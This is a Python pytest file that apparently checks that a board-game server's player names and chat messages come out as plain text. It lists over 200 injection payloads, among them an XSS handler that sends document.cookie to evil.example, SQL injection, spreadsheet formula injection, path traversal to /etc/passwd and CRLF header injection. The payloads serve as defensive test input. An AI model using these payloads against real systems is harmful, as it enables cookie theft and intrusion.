"""Whatever people write comes out as plain text: 200 scripts that do not run."""

from __future__ import annotations

import asyncio
import json
import unicodedata
import urllib.request
from itertools import product
from typing import TYPE_CHECKING

import pytest

from blockness.game import Record
from blockness.server.table.phrases import MOST_NAME, MOST_TEXT, cleaned
from server.guest import Guest, Refused, call, make_room

if TYPE_CHECKING:
    from server.services import Server

TAGS = ["script", "img", "svg", "iframe", "body", "video", "object", "math", "a", "style"]
HANDLERS = ["onerror", "onload", "onclick", "onfocus autofocus", "onmouseover"]
CALLS = ["alert(1)", "fetch('//evil.example?'+document.cookie)"]
MADE = [f"<{tag} src=x {handler}={call}>" for tag, handler, call in product(TAGS, HANDLERS, CALLS)]
SHORT = [
    "<script>x()</script>",
    "<b onclick=x()>",
    "<img src=x>",
    "<svg/onload=x()>",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[",
    "</title><script>",
    "</textarea>",
    "</script>",
    '"><script>',
    "'><script>",
    '" onload="x()',
    "' onload='x()",
    "` onload=x()",
    "javascript:x()",
    "JaVaScRiPt:x()",
    "java\tscript:x()",
    "data:text/html,<p>",
    "vbscript:x",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3c;b&#x3e;",
    "\\x3cscript\\x3e",
    "\\u003cscript\\u003e",
    "%3Cscript%3E",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}",
    "[[7*7]]",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C'",
    "'; DROP TABLE room;--",
    '"; DROP TABLE room;',
    "1' OR '1'='1",
    "Robert'); --",
    "\\",
    '"',
    "'",
    "]",
    '"]',
    "[Orange]",
    '\\"',
    "{comment}",
    "} Sd4f4 {",
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\x",
    "file:///etc/passwd",
    "%s%s%n",
    "%(name)s",
    "{0.__class__}",
    "__proto__",
    "constructor",
    "toString",
    "null",
    "undefined",
    "NaN",
    "true",
    "-1",
    "1e309",
    "$colour",
    "{ $colour }",
    "{ monster }",
    "{ -brand }",
    "*[other] x",
    "\r\nSet-Cookie: x=1",
    "x\r\n\r\n<p>",
    "a\nb",
    "a\x00b",
    "a\x1b[31mb",
    "a\x7fb",
    "a\x85b",
    "a\u2028b",
    "a\u2029b",
    "\u202egnp.exe",
    "a\u202eb\u202c",
    "\u2066a\u2069",
    "\u200fa",
    "a\u200bb",
    "a\u200db",
    "a\ufeffb",
    "a\xadb",
    "a\U000e0041b",
    "\u3164",
    "\u2800\u115f",
    "\ufeff",
    "ＡＢＣ＜ｓｃｒｉｐｔ＞",
    "‹script›",
    "＜b＞",
    "ʺ><b",
    "a\u0338b",
    "z\u0301\u0302\u0303algo",
    "İıſK",
    "ﬁ ß",
    "😀<b>",
    "أهلا",
    "שלום",
    "Нэсси",
    "尼斯湖",
]
PAYLOADS = [*MADE, *SHORT]


def seen(text: str) -> str:
    """What is left of a text, worked out in another way than the server does."""
    fillers = "\u115f\u1160\u2800\u3164\uffa0"
    kept: list[str] = []
    for character in text:
        kind = unicodedata.category(character)
        if kind in {"Cc", "Zl", "Zp", "Zs"} or character in fillers:
            kept.append(" ")
        elif kind not in {"Cf", "Cs", "Co", "Cn"}:
            kept.append(character)
    return " ".join("".join(kept).split())


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("text", SHORT)
def test_only_what_cannot_be_seen_is_taken_away(text: str) -> None:
    assert cleaned(text) == seen(text)
    assert cleaned(cleaned(text)) == cleaned(text)
    assert cleaned(text).isprintable()


def fetch(address: str) -> tuple[str, str, str]:
    """Return the kind of an answer, how it is to be shown, and its text."""
    with urllib.request.urlopen(address, timeout=30) as answer:  # noqa: S310 - our own
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        kind, shown = answer.headers["Content-Type"], answer.headers["Content-Disposition"] or ""
        return kind, shown, answer.read().decode()


def test_names_come_out_as_text(server: Server) -> None:
    """As made with the room, in its state and in its record."""
    for text in PAYLOADS:
        name = seen(text)
        body = {"seats": [{"colour": "orange", "name": text}, {"colour": "green", "level": "otter"}]}
        status, made = call(f"{server.address}/api/rooms", body)
        if not 0 < len(name) <= MOST_NAME:
            assert (status, made["extra"]["code"]) in {
                (422, "name-missing"),
                (422, "name-too-long"),
                (400, "malformed"),
            }
            continue
        assert status == 201, text
        address = f"{server.address}/api/rooms/{made['code']}"
        kind, _, answer = fetch(address)
        assert kind == "application/json"
        assert json.loads(answer)["seats"][0]["name"] == name
        kind, shown, answer = fetch(f"{address}/games/1/record")
        assert kind == "text/plain; charset=utf-8"
        assert shown == f'attachment; filename="block-ness-{made["code"]}-1.txt"'
        assert Record.read(answer).headers["Orange"] == name


def test_talk_comes_out_as_text(server: Server) -> None:
    made = make_room(server.address, [{"name": "Ann"}, {"name": "Bob"}], free_text=True, first=0)
    watch = (server.address, made["code"])

    async def talk() -> None:
        async with Guest(server.address, made["code"], made["tokens"].values()) as ann, Guest(*watch) as watching:
            for number, text in enumerate(PAYLOADS):
                words = seen(text)
                if not 0 < len(words) <= MOST_TEXT:
                    with pytest.raises(Refused, match="text-too-long" if words else "no-such-phrase"):
                        await ann.ask("say", seat=0, text=text)
                    continue
                answer = await ann.ask("say", seat=0, text=text)
                await watching.until(lambda answer=answer: answer["number"] in watching.events)
                said = watching.events[answer["number"]]
                assert (said["kind"], said["text"]) == ("said", words)
                if number % 20 == 0:
                    await ann.play(ann.moves[0])  # so that there is more to tell
                    await ann.until(lambda answer=answer: ann.version > answer["number"])

    asyncio.run(talk())


def test_no_answer_is_ever_a_page(server: Server) -> None:
    """A problem quotes what it was asked, as JSON."""
    for text in PAYLOADS[::10]:
        body = json.dumps({"seats": text, "variant": text}).encode()
        request = urllib.request.Request(f"{server.address}/api/rooms", body, method="POST")  # noqa: S310
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=30)  # noqa: S310 - our own
        assert refused.value.headers["Content-Type"] == "application/json"
        assert refused.value.headers["X-Content-Type-Options"] == "nosniff"
        refused.value.close()
